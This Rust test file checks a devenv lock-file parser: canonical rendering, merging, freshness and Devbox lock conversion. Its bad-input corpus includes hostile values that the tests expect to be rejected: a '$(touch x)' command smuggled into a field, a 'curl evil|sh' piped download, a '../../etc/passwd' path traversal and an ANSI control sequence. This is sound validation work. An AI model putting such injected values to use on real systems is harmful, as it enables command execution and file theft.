//! Lock reading, canonical writing, freshness, merging and Devbox locks, with the module-level
//! bad-input corpus.

use super::*;
use crate::diagnostic::{Report, EXIT_BAD_INPUT};
use crate::manifest::{Manifest, PackageSpec};

const REV: &str = "0123456789abcdef0123456789abcdef01234567";

fn out(name: &str, path: &str, default: bool) -> Output {
    Output {
        name: name.into(),
        path: path.into(),
        default,
    }
}

fn pkg(version: &str, systems: &[&str]) -> LockedPackage {
    LockedPackage {
        last_modified: "2024-06-01T00:00:00Z".into(),
        resolved: format!("github:NixOS/nixpkgs/{REV}#ansible"),
        source: "test".into(),
        version: version.into(),
        systems: systems
            .iter()
            .map(|s| {
                (
                    s.to_string(),
                    LockedSystem {
                        outputs: vec![
                            out(
                                "man",
                                &format!("/nix/store/bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb-ansible-{version}-man-{s}"),
                                false,
                            ),
                            out(
                                "out",
                                &format!("/nix/store/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa-ansible-{version}-{s}"),
                                true,
                            ),
                        ],
                    },
                )
            })
            .collect(),
    }
}

fn lock_with(entries: &[(&str, LockedPackage)]) -> Lockfile {
    let mut lock = Lockfile::new();
    for (k, p) in entries {
        lock.packages.insert(k.to_string(), p.clone());
    }
    lock
}

#[test]
fn render_is_canonical() {
    let lock = lock_with(&[("ansible@2.16.5", pkg("2.16.5", &["x86_64-linux"]))]);
    let text = render(&lock);
    assert_eq!(
        text,
        format!(
            r#"{{
  "lockfile_version": "1",
  "packages": {{
    "ansible@2.16.5": {{
      "last_modified": "2024-06-01T00:00:00Z",
      "resolved": "github:NixOS/nixpkgs/{REV}#ansible",
      "source": "test",
      "systems": {{
        "x86_64-linux": {{
          "outputs": [
            {{
              "default": true,
              "name": "out",
              "path": "/nix/store/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa-ansible-2.16.5-x86_64-linux"
            }},
            {{
              "name": "man",
              "path": "/nix/store/bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb-ansible-2.16.5-man-x86_64-linux"
            }}
          ]
        }}
      }},
      "version": "2.16.5"
    }}
  }}
}}
"#
        )
    );
    // Round trip: parsing and rendering again gives the same bytes.
    let back = parse(&text, "devenv.lock").unwrap();
    assert_eq!(render(&back), text);
}

#[test]
fn write_only_when_content_changes() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join(FILE_NAME);
    assert_eq!(read(&path).unwrap(), None);
    let mut lock = lock_with(&[("a@1", pkg("1", &["x86_64-linux"]))]);
    assert!(write(&path, &lock).unwrap());
    assert!(!write(&path, &lock).unwrap());
    // Output order in memory does not matter: the canonical text is the same.
    lock.packages
        .get_mut("a@1")
        .unwrap()
        .systems
        .get_mut("x86_64-linux")
        .unwrap()
        .outputs
        .reverse();
    assert!(!write(&path, &lock).unwrap());
    assert_eq!(
        read(&path).unwrap().map(|l| render(&l)),
        Some(render(&lock))
    );
    lock.packages
        .insert("b@2".into(), pkg("2", &["aarch64-darwin"]));
    assert!(write(&path, &lock).unwrap());
    assert_eq!(
        std::fs::read_dir(dir.path()).unwrap().count(),
        1,
        "no temporary files left"
    );
}

fn bad(text: &str) -> Report {
    let report = Report::from_error(&parse(text, "devenv.lock").unwrap_err());
    assert_eq!(report.exit_code, EXIT_BAD_INPUT, "{}", report.render());
    assert!(!report.hints.is_empty(), "{}", report.render());
    report
}

/// The module-level bad-input corpus for locks.
#[test]
fn bad_locks_are_named_precisely() {
    let good = render(&lock_with(&[("a@1", pkg("1", &["x86_64-linux"]))]));
    let cases: Vec<(String, &str)> = vec![
        (
            "{\n  \"lockfile_version\": \"1\",\n  \"packages\": {\n".to_string(),
            "devenv.lock:4:0: EOF while parsing",
        ),
        (
            "{\"lockfile_version\": \"1\" \"packages\": {}}".to_string(),
            "devenv.lock:1:26: expected `,` or `}`",
        ),
        (
            good.replacen("\"packages\": {", "\"packages\": {,", 1),
            "devenv.lock:3:16: key must be a string",
        ),
        (
            "{\"lockfile_version\": \"1\", \"packages\": []}".to_string(),
            "devenv.lock:1:38: invalid type: sequence, expected a map",
        ),
        (
            "{\"lockfile_version\": \"1\", \"packages\": {\"a@1\": {\"version\": 1}}}".to_string(),
            "devenv.lock:1:59: invalid type: integer `1`, expected a string",
        ),
        (
            "{\"lockfile_version\": \"1\", \"packages\": {\"a@1\": {}}}".to_string(),
            "devenv.lock:1:48: missing field `last_modified`",
        ),
        (
            "{\"packages\": {}}".to_string(),
            "`lockfile_version` is missing",
        ),
        (
            "{\"lockfile_version\": \"0\", \"packages\": {}}".to_string(),
            "format version \"0\", which this devenv does not know",
        ),
        (
            good.replace("x86_64-linux\": {", "x86_64-windows\": {"),
            "package `a@1`: `systems.x86_64-windows` is `x86_64-windows`, not a known system",
        ),
        (
            good.replace("/nix/store/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa-ansible-1-x86_64-linux", "/usr/bin/ansible"),
            "package `a@1`: `systems.x86_64-linux.outputs[0].path` is not a store path: store path `/usr/bin/ansible` is not inside `/nix/store/`",
        ),
        (
            good.replace("\"a@1\"", "\"a\""),
            "the key `a` is not `name@constraint`",
        ),
        (
            good.replace("\"a@1\"", "\"a b@1\""),
            "the key `a b@1`: `a b` is not a valid package name",
        ),
        (
            good.replace("2024-06-01T00:00:00Z", "June 1st"),
            "package `a@1`: `last_modified` is not an RFC 3339 date: `June 1st`",
        ),
        (
            good.replace(REV, "main"),
            "package `a@1`: `resolved` must be `github:NixOS/nixpkgs/<40-hex revision>#<attribute>`, not `github:NixOS/nixpkgs/main#ansible` (its part is `main`, not a 40-character lowercase hexadecimal git revision)",
        ),
        (
            good.replace(
                &format!("\"outputs\": [{}]", &good[good.find("\"outputs\": [").unwrap() + 12..good.find("]\n        }").unwrap()]),
                "\"outputs\": []",
            ),
            "package `a@1`: `systems.x86_64-linux.outputs` lists no outputs",
        ),
        (
            good.replace("#ansible", "#a\\n$(touch x)"),
            "package `a@1`: `resolved` must be `github:NixOS/nixpkgs/<40-hex revision>#<attribute>`, not `github:NixOS/nixpkgs/0123456789abcdef0123456789abcdef01234567#a\\n$(touch x)`",
        ),
        (
            good.replace("\"version\": \"1\"", "\"version\": \"1\\u001b[31m\""),
            "package `a@1`: `version` is `1\\e[31m`, which contains a control or invisible formatting character",
        ),
        (
            good.replace(&format!("/nix/store/{}-ansible-1-x86_64-linux", "a".repeat(32)), "/nix/store/../../etc/passwd"),
            "`systems.x86_64-linux.outputs[0].path` is not a store path",
        ),
        (
            good.replace("\"name\": \"man\"", "\"name\": \"out\""),
            "`systems.x86_64-linux.outputs[1].name` repeats the output `out`",
        ),
        (
            format!("{}{}", "[".repeat(30_000), "]".repeat(30_000)),
            "devenv.lock:1:65: the document nests deeper than 64 levels",
        ),
    ];
    let mut mismatches = Vec::new();
    for (text, expected) in &cases {
        let report = bad(text);
        let rendered = report.render();
        if !rendered.contains(expected) {
            mismatches.push(format!("expected {expected:?} in:\n{rendered}"));
        }
        assert!(
            rendered.starts_with("error: `devenv.lock` is not a valid lock file"),
            "{rendered}"
        );
        // Values are quoted escaped: the message itself carries no control characters.
        assert!(
            !rendered.chars().any(|c| c.is_control() && c != '\n'),
            "{rendered:?}"
        );
        assert!(
            rendered.lines().all(|l| ["error:", "  caused by:", "hint:"]
                .iter()
                .any(|p| l.starts_with(p))),
            "{rendered:?}"
        );
    }
    assert!(mismatches.is_empty(), "{}", mismatches.join("\n"));
}

#[test]
fn newer_lock_format_asks_to_upgrade() {
    let report = bad("{\"lockfile_version\": \"2\", \"packages\": {\"x\": 1}}");
    assert_eq!(
        report.message,
        "`devenv.lock` was written by a newer devenv"
    );
    assert!(
        report.causes[0].contains("format version \"2\", but this devenv reads only version \"1\"")
    );
    assert!(report.hints[0].contains("upgrade devenv"));
}

#[test]
fn merge_conflict_markers_are_found() {
    let text = "{\n  \"lockfile_version\": \"1\",\n  \"packages\": {\n<<<<<<< HEAD\n    \"a@1\": {}\n=======\n    \"a@2\": {}\n>>>>>>> feature\n  }\n}\n";
    let report = bad(text);
    assert!(report.causes[0]
        .starts_with("devenv.lock:4:1: the lock contains git merge-conflict markers"));
    assert!(report.hints[0].contains("devenv update"));
}

#[test]
fn outputs_for_picks_defaults_or_requested() {
    let p = pkg("1", &["x86_64-linux"]);
    let names = |v: Vec<Output>| v.into_iter().map(|o| o.name).collect::<Vec<_>>();
    assert_eq!(names(p.outputs_for("x86_64-linux", &[])), ["out"]);
    assert_eq!(
        names(p.outputs_for("x86_64-linux", &["man".into()])),
        ["man"]
    );
    assert_eq!(
        names(p.outputs_for("x86_64-linux", &["man".into(), "out".into()])),
        ["man", "out"]
    );
    assert!(p.outputs_for("aarch64-darwin", &[]).is_empty());
    let mut none_default = p.clone();
    for s in none_default.systems.values_mut() {
        for o in &mut s.outputs {
            o.default = false;
        }
    }
    assert_eq!(
        names(none_default.outputs_for("x86_64-linux", &[])),
        ["out"]
    );
    assert_eq!(p.rev(), Some(REV));
    assert_eq!(p.attr_path(), Some("ansible"));
}

#[test]
fn check_reports_missing_stale_and_unused() {
    let manifest = Manifest {
        packages: vec![
            PackageSpec::new("ansible", "2.16"),
            PackageSpec::new("jq", "latest"),
            PackageSpec::new("rg", "14"),
        ],
        ..Manifest::default()
    };
    let mut hand_edited = pkg("15.0.0", &["x86_64-linux"]);
    hand_edited.resolved = format!("github:NixOS/nixpkgs/{REV}#ripgrep");
    let lock = lock_with(&[
        ("ansible@2.16", pkg("2.16.5", &["x86_64-linux"])),
        ("rg@14", hand_edited),
        ("go@1.22", pkg("1.22.1", &["x86_64-linux"])),
    ]);
    let status = check(&manifest, &lock);
    assert_eq!(status.missing, ["jq@latest"]);
    assert_eq!(status.stale, ["rg@14"]);
    assert_eq!(status.unused, ["go@1.22"]);
    assert_eq!(status.freshness(), Freshness::Outdated);
    assert_eq!(status.to_resolve(), ["jq@latest", "rg@14"]);

    let mut fixed = lock.clone();
    fixed
        .packages
        .insert("jq@latest".into(), pkg("1.7.1", &["x86_64-linux"]));
    fixed
        .packages
        .insert("rg@14".into(), pkg("14.1.0", &["x86_64-linux"]));
    assert_eq!(fixed.retain_manifest(&manifest), ["go@1.22"]);
    assert!(check(&manifest, &fixed).is_up_to_date());
}

#[test]
fn merge_never_drops_other_systems_of_the_same_version() {
    let all = [
        "aarch64-darwin",
        "aarch64-linux",
        "x86_64-darwin",
        "x86_64-linux",
    ];
    let mut lock = lock_with(&[("a@2", pkg("2.0", &all[..3]))]);
    let before = lock.clone();
    // A fresh answer for one system only, with a different revision: the lock keeps its entries.
    let mut partial = pkg("2.0", &["x86_64-linux"]);
    partial.resolved = "github:NixOS/nixpkgs/ffffffffffffffffffffffffffffffffffffffff#a".into();
    assert_eq!(
        lock.merge("a@2", partial),
        MergeOutcome::SystemsAdded(vec!["x86_64-linux".into()])
    );
    let merged = &lock.packages["a@2"];
    assert_eq!(merged.resolved, before.packages["a@2"].resolved);
    assert_eq!(
        merged.systems.keys().collect::<Vec<_>>(),
        all.iter().collect::<Vec<_>>()
    );
    for s in &all[..3] {
        assert_eq!(merged.systems[*s], before.packages["a@2"].systems[*s]);
    }
    assert_eq!(
        lock.merge("a@2", pkg("2.0", &["x86_64-linux"])),
        MergeOutcome::Unchanged
    );
    assert_eq!(
        lock.merge("a@2", pkg("2.1", &all)),
        MergeOutcome::Updated {
            from: "2.0".into(),
            to: "2.1".into()
        }
    );
    assert_eq!(lock.merge("b@1", pkg("1", &all)), MergeOutcome::Added);
}

#[test]
fn devbox_lock_keeps_store_paths() {
    let text = r#"{
  "lockfile_version": "1",
  "packages": {
    "fd@latest": {
      "last_modified": "2026-05-21T08:15:18Z",
      "resolved": "github:NixOS/nixpkgs/4a29d733e8a7d5b824c3d8c958a946a9867b3eb2#fd",
      "source": "devbox-search",
      "version": "10.4.2",
      "systems": {
        "aarch64-darwin": {
          "outputs": [ { "name": "out", "path": "/nix/store/h07wyxfpicdwj0j3xbg9841hd0grb9sy-fd-10.4.2", "default": true } ],
          "store_path": "/nix/store/h07wyxfpicdwj0j3xbg9841hd0grb9sy-fd-10.4.2"
        },
        "x86_64-linux": { "store_path": "/nix/store/493wwp79iq7db1dy1gj3a9dpazh17v42-fd-10.4.2" }
      }
    },
    "postgresql@latest": {
      "last_modified": "2025-08-12T09:17:37Z",
      "plugin_version": "0.0.2",
      "resolved": "github:NixOS/nixpkgs/372d9eeeafa5b15913201e2b92e8e539ac7c64d1#postgresql",
      "source": "devbox-search", "version": "17.5",
      "systems": { "aarch64-darwin": { "outputs": [
          { "name": "man", "path": "/nix/store/g3gynlyaaaaaaaaaaaaaaaaaaaaaaaaa-postgresql-17.5-man", "default": true },
          { "name": "out", "path": "/nix/store/dfmi5df0aaaaaaaaaaaaaaaaaaaaaaaa-postgresql-17.5", "default": true },
          { "name": "lib", "path": "/nix/store/z2ixx016aaaaaaaaaaaaaaaaaaaaaaaa-postgresql-17.5-lib" } ] } }
    },
    "poetry": { "plugin_version": "0.0.4",
      "resolved": "github:NixOS/nixpkgs/75a52265bda7fd25e06e3a67dee3f0354e73243c#poetry", "source": "nixpkg" },
    "github:NixOS/nixpkgs/nixpkgs-unstable": {
      "last_modified": "2026-06-13T14:05:44Z",
      "resolved": "github:NixOS/nixpkgs/9f11f828c213641c2369a9f1fa31fe31557e3156?lastModified=1781359544&narHash=sha256-iUuzKQcyXvopYDDzFpMK5eQKP3WIJExYny2kJtbgUcE%3D"
    }
  }
}"#;
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join(devbox::FILE_NAME);
    assert_eq!(read_devbox(&path).unwrap(), None);
    std::fs::write(&path, text).unwrap();
    let lock = read_devbox(&path).unwrap().unwrap();
    assert_eq!(
        lock.packages.keys().collect::<Vec<_>>(),
        ["fd@latest", "poetry@latest", "postgresql@latest"]
    );
    let fd = &lock.packages["fd@latest"];
    assert_eq!(fd.version, "10.4.2");
    assert_eq!(
        fd.outputs_for("x86_64-linux", &[]),
        [out(
            "out",
            "/nix/store/493wwp79iq7db1dy1gj3a9dpazh17v42-fd-10.4.2",
            true
        )]
    );
    assert_eq!(
        fd.outputs_for("aarch64-darwin", &[])[0].path,
        "/nix/store/h07wyxfpicdwj0j3xbg9841hd0grb9sy-fd-10.4.2"
    );
    let pg = &lock.packages["postgresql@latest"].systems["aarch64-darwin"].outputs;
    assert_eq!(
        pg.iter().map(|o| o.name.as_str()).collect::<Vec<_>>(),
        ["out", "lib", "man"]
    );
    // The converted lock is a valid devenv.lock. An unversioned entry of 2023 (`"source":
    // "nixpkg"`, a revision and attribute, no version or store paths) is locked all the same: it
    // is installed from that revision, not resolved again.
    let converted = render(&lock);
    assert_eq!(parse(&converted, "devenv.lock").unwrap(), lock);
    let manifest = Manifest {
        packages: vec![
            PackageSpec::new("fd", "latest"),
            PackageSpec::new("poetry", "latest"),
            PackageSpec::new("postgresql", "latest"),
        ],
        ..Manifest::default()
    };
    assert!(check(&manifest, &lock).is_up_to_date());
    let mut unresolved = lock.clone();
    unresolved
        .packages
        .get_mut("poetry@latest")
        .unwrap()
        .resolved = String::new();
    let status = check(&manifest, &unresolved);
    assert_eq!(status.stale, ["poetry@latest"]);
    assert!(status.missing.is_empty());
    // Pinned to a version outside the constraint: stale as any other entry.
    let pinned = Manifest {
        packages: vec![PackageSpec::new("poetry", "1.8")],
        ..Manifest::default()
    };
    let mut versioned = lock.clone();
    let mut entry = versioned.packages.remove("poetry@latest").unwrap();
    entry.version = "1.2.0".into();
    versioned.packages = [("poetry@1.8".to_string(), entry)].into();
    assert_eq!(check(&pinned, &versioned).stale, ["poetry@1.8"]);

    std::fs::write(
        &path,
        "{\"lockfile_version\": \"1\", \"packages\": {\"a\": {\"version\": []}}}",
    )
    .unwrap();
    let report = Report::from_error(&read_devbox(&path).unwrap_err());
    assert_eq!(report.exit_code, EXIT_BAD_INPUT);
    assert!(
        report.causes[0].contains(&format!("{}:1:56: invalid type: sequence", path.display())),
        "{}",
        report.render()
    );
}

/// A `store_path`-only system keeps the output its path names: `curl-8.2.1-bin` is `bin`, not
/// `out` (which made devenv link the wrong directory and a lock diff on conversion).
#[test]
fn devbox_store_path_names_its_output() {
    let p = |name: &str| format!("/nix/store/{}-{name}", "a".repeat(32));
    for (name, output) in [
        ("curl-8.2.1-bin", "bin"),
        ("openssl-3.0.10-dev", "dev"),
        ("postgresql-17.5-man", "man"),
        ("python3-3.11.4", "out"),
        ("discord-bin", "out"),
        ("go-1.22.2", "out"),
        ("firefox-bin-119.0", "out"),
        ("hello", "out"),
    ] {
        assert_eq!(devbox::output_name_of(&p(name)), output, "{name}");
    }
    let text = format!(
        r#"{{"lockfile_version": "1", "packages": {{"curl@8.2.1": {{
      "resolved": "github:NixOS/nixpkgs/75a52265bda7fd25e06e3a67dee3f0354e73243c#curl",
      "version": "8.2.1", "systems": {{"x86_64-linux": {{"store_path": "{}"}}}}}}}}}}"#,
        p("curl-8.2.1-bin")
    );
    let lock = devbox::parse_devbox(&text, "devbox.lock").unwrap();
    let outputs = lock.packages["curl@8.2.1"].outputs_for("x86_64-linux", &[]);
    assert_eq!(outputs, [out("bin", &p("curl-8.2.1-bin"), true)]);
}

#[test]
fn parse_bytes_follows_the_dialect() {
    use crate::manifest::Dialect;
    let devbox = br#"{"lockfile_version": "1", "packages": {"hello": {"source": "nixpkg"}}}"#;
    let lock = parse_bytes(devbox, "devbox.lock", Dialect::Devbox).unwrap();
    assert_eq!(lock.packages.keys().collect::<Vec<_>>(), ["hello@latest"]);
    let ours = render(&lock_with(&[("a@1", pkg("1", &["x86_64-linux"]))]));
    let lock = parse_bytes(ours.as_bytes(), FILE_NAME, Dialect::Devenv).unwrap();
    assert_eq!(lock.packages.len(), 1);
    let report = Report::from_error(&parse_bytes(b"\xff", FILE_NAME, Dialect::Devenv).unwrap_err());
    assert_eq!(report.exit_code, EXIT_BAD_INPUT);
}

#[test]
fn non_utf8_files_are_bad_input_with_position() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join(FILE_NAME);
    std::fs::write(&path, b"{\n  \"lockfile_version\": \"1\xff\"\n}").unwrap();
    let report = Report::from_error(&read(&path).unwrap_err());
    assert_eq!(report.exit_code, EXIT_BAD_INPUT);
    assert!(
        report.causes[0].ends_with(&format!(
            "{}:2:25: the file is not valid UTF-8",
            path.display()
        )),
        "{}",
        report.render()
    );
    let manifest = dir.path().join(crate::manifest::FILE_NAME);
    std::fs::write(&manifest, b"{\"packages\": [\"\xc3\"]}").unwrap();
    let report = Report::from_error(&crate::manifest::load(&manifest).unwrap_err());
    assert_eq!(report.exit_code, EXIT_BAD_INPUT);
    assert!(
        report.causes[0].contains(":1:16: the file is not valid UTF-8"),
        "{}",
        report.render()
    );
}

#[test]
fn devbox_locks_follow_the_same_rules_and_bounds() {
    let bad = |text: &str| {
        let report = Report::from_error(&devbox::parse_devbox(text, "devbox.lock").unwrap_err());
        assert_eq!(report.exit_code, EXIT_BAD_INPUT);
        report.render()
    };
    let deep = format!("{}{}", "{\"a\":".repeat(30_000), "}".repeat(30_000));
    let report = bad(&deep);
    assert!(
        report.contains("devbox.lock:1:321: the document nests deeper than 64 levels"),
        "{report}"
    );
    let code = format!(
        r#"{{"lockfile_version": "1", "packages": {{"jq@1": {{"version": "1",
        "resolved": "github:NixOS/nixpkgs/{REV}#jq;curl evil|sh"}}}}}}"#
    );
    let report = bad(&code);
    assert!(
        report.contains("package `jq@1`: `resolved` must be")
            && report.contains("#jq;curl evil|sh`"),
        "{report}"
    );
    // An entry Devbox never resolved is stale, not invalid.
    let stale = r#"{"lockfile_version": "1", "packages": {"poetry": {"plugin_version": "0.0.4"}}}"#;
    assert!(devbox::parse_devbox(stale, "devbox.lock").is_ok());
}
